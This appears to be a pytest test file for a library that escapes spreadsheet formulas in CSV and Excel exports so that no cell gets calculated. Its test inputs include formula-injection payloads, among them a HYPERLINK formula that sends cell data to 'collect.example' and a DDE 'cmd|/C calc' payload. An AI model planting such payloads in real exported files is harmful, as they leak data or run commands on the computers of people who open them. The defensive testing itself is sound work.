"""Files for people: whatever stands in a catalogue, no spreadsheet calculates it, and no value is lost."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from vsearch_core import table_files
from vsearch_core.settings import ROOT
from vsearch_core.table_files import as_csv, as_delivered, as_excel, as_parquet, inert, inert_json

NASTY = st.text(alphabet="=+-@＝＋;,|\t\r\n'\" a5.%e\u200b\ufeff\u00a0")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://collect.example/?x="&A1,"open")',
        "@SUM(1+1)",
        "+44 broken",
        "-1+cmd|' /C calc'!A0",
        "＝1+1",
        "＋1+1",
        "－x",
        "＠x",
        " =1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        '"=1+1"',
        "'=1+1",
    ],
)
def test_text_that_a_spreadsheet_would_calculate_gets_an_apostrophe(text: str) -> None:
    assert inert(text).startswith("'")
    assert as_delivered(inert(text)) == text


@pytest.mark.parametrize(
    ("text", "made"),
    [
        ("red;=1+1", "red;'=1+1"),
        ("red,=1+1", "red,'=1+1"),
        ('red;" @x"', 'red;\'" @x"'),
        ("red\n=1+1", "red\n'=1+1"),
        ("red\t=1+1", "red\t'=1+1"),
        ("red, -5, green", "red, -5, green"),
    ],
)
def test_what_a_split_would_make_a_cell_of_its_own_is_inert_too(text: str, made: str) -> None:
    assert inert(text) == made
    assert as_delivered(made) == text


@pytest.mark.parametrize(
    "text", ["", "-5", "+44", "-1.5e-3", "-12 %", "a=b", "a-b@c", "Mützen", "1,299", "'tis", "[1, -2]"]
)
def test_numbers_and_ordinary_text_stay_as_they_are(text: str) -> None:
    assert inert(text) == text


@given(NASTY)
def test_every_cell_can_be_had_back_as_it_was(text: str) -> None:
    assert as_delivered(inert(text)) == text


@given(NASTY, st.sampled_from(",;\t|"))
def test_no_split_of_a_file_at_any_separator_gives_a_formula(text: str, separator: str) -> None:
    written = as_csv(pd.DataFrame({"a": ["x", text], text: [text, "y"]})).decode("utf-8-sig")
    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
        for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator, quoting=quoting):
            for cell in row:
                bare = cell.strip(' "\u200b\ufeff\u00a0\t\r\n')
                is_number = bare.replace("%", "").strip(" \"'").lstrip("+-").replace(".", "").replace("e", "").isdigit()
                assert not bare.startswith(("=", "+", "-", "@", "＝", "＋")) or is_number or bare[1:2].isdigit()


@given(
    st.recursive(
        st.none() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | NASTY,
        lambda x: st.lists(x) | st.dictionaries(NASTY, x),
    )
)
def test_json_in_a_cell_is_the_same_json_and_no_formula(value: object) -> None:
    text = inert_json(value)
    assert json.loads(text) == value
    assert inert(text) == text


def test_a_csv_begins_with_the_mark_that_excel_knows_it_by_and_keeps_its_numbers() -> None:
    table = pd.DataFrame({
        "=name": ["=1", "naïve", None], "number": [1.5, np.nan, -3.0], "mixed": [-4, "-5", "-six"],
        "time": pd.to_datetime([datetime(2026, 3, 1, tzinfo=UTC)] * 3), "kind": pd.Categorical(["@a", "b", "b"]),
        "ids": [["=1", "2"], [], ["3"]],
    })  # fmt: skip
    data = as_csv(table)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][:3] == ["'=name", "number", "mixed"]
    assert [row[1] for row in rows[1:]] == ["1.5", "", "-3.0"]
    assert [row[2] for row in rows[1:]] == ["-4", "-5", "'-six"]
    assert [row[4] for row in rows[1:]] == ["'@a", "b", "b"]
    assert [row[5] for row in rows[1:]] == ["'=1, 2", "", "3"]


def test_excel_holds_text_as_text_even_after_a_person_went_into_the_cell() -> None:
    table = pd.DataFrame({
        "=name": ["=HYPERLINK(1)", "naïve\x07\ufffe", None], "number": [1.5, np.inf, np.nan],
        "time": pd.to_datetime([datetime(2026, 3, 1, tzinfo=UTC)] * 3),
    })  # fmt: skip
    sheet = load_workbook(io.BytesIO(as_excel({"a: table": table})))["a table"]
    assert [cell.value for cell in sheet["A"]] == ["=name", "=HYPERLINK(1)", "naïve", None]
    assert {sheet["A1"].data_type, sheet["A2"].data_type} == {"s"}
    assert sheet["A1"].quotePrefix
    assert sheet["A2"].quotePrefix
    assert [sheet["B2"].value, sheet["B3"].value, sheet["B4"].value] == [1.5, "inf", None]
    assert sheet["C2"].value == datetime(2026, 3, 1)


def test_what_a_sheet_cannot_hold_is_told() -> None:
    long = load_workbook(io.BytesIO(as_excel({"t": pd.DataFrame({"a": ["x" * 40_000]})})))["t"]["A2"].value
    assert len(long) == 32_767
    assert long.endswith("…")
    with pytest.raises(ValueError, match="take the CSV"):
        as_excel({"t": pd.DataFrame({"a": np.zeros(1_048_576)})})


def test_parquet_keeps_the_values_and_their_types() -> None:
    table = pd.DataFrame({"name": ["=1", None], "number": [1.5, np.nan]})
    pd.testing.assert_frame_equal(pd.read_parquet(io.BytesIO(as_parquet(table))), table)


def test_no_page_writes_a_file_by_itself() -> None:
    sources = [*(ROOT / "app").rglob("*.py"), *(ROOT / "pages").glob("*.py")]
    own = [path for path in sources if any(f"to_{kind}(" in path.read_text("utf-8") for kind in ("csv", "excel"))]
    assert own == []
    assert "disableDataExport = true" in (ROOT / ".streamlit" / "config.toml").read_text("utf-8")
    assert table_files.__doc__
